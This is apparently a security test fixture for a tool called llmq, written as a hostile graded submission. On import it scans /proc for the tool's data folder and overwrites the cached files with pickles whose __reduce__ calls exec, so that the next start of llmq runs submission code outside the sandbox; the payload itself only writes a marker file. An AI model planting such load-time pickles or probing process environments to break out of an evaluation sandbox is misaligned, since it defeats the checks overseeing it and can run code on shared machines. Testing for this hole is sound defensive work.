"""Hostile submission: escape into llmq itself through its data folder.

llmq keeps a cache of the bank in LLMQ_HOME and loads it at the next start. Find LLMQ_HOME (the
environment, the environment of every process of this check in /proc), then replace every file
there except the database by a pickle that runs code when it is loaded, and add more under the
cache's names. If the next `llmq list` loads one, it creates the file RAN outside any sandbox.
The marker guard keeps the attack on the data folder of the test that runs it (the machine is
shared; a real attacker would also try the default data folder).
"""

import os
import pickle

MARKER = "__MARKER__"
RAN = "__RAN__"


class _RunsOnLoad:
    def __reduce__(self):
        return (exec, (f"open({RAN!r}, 'w').write('code from a submission ran in llmq')",))


def _homes() -> set[str]:
    homes = {os.environ.get("LLMQ_HOME", "")}
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                env = f.read().split(b"\0")
        except OSError:
            continue
        if MARKER.encode() not in b"\0".join(env):
            continue
        for item in env:
            if item.startswith(b"LLMQ_HOME="):
                homes.add(item.split(b"=", 1)[1].decode(errors="ignore"))
    return {h for h in homes if h and os.path.isdir(h)}


def _plant() -> list[str]:
    payload = pickle.dumps(("key", _RunsOnLoad()))
    planted = []
    for home in _homes():
        names = [os.path.join(d, f) for d, _, files in os.walk(home) for f in files if not f.startswith("progress.db")]
        names += [os.path.join(home, "cache", f"bank-{n:08x}.pickle") for n in (0, 0xFFFFFFFF)]
        for name in names:
            try:
                os.makedirs(os.path.dirname(name), exist_ok=True)
                with open(name, "wb") as f:
                    f.write(payload)
                planted.append(name)
            except OSError:
                pass
    return planted


PLANTED = _plant()
print(f"planted: {PLANTED}")


def softmax(x, dim=-1):
    return x.clone()  # the verdict does not matter to this attack: the next llmq start does
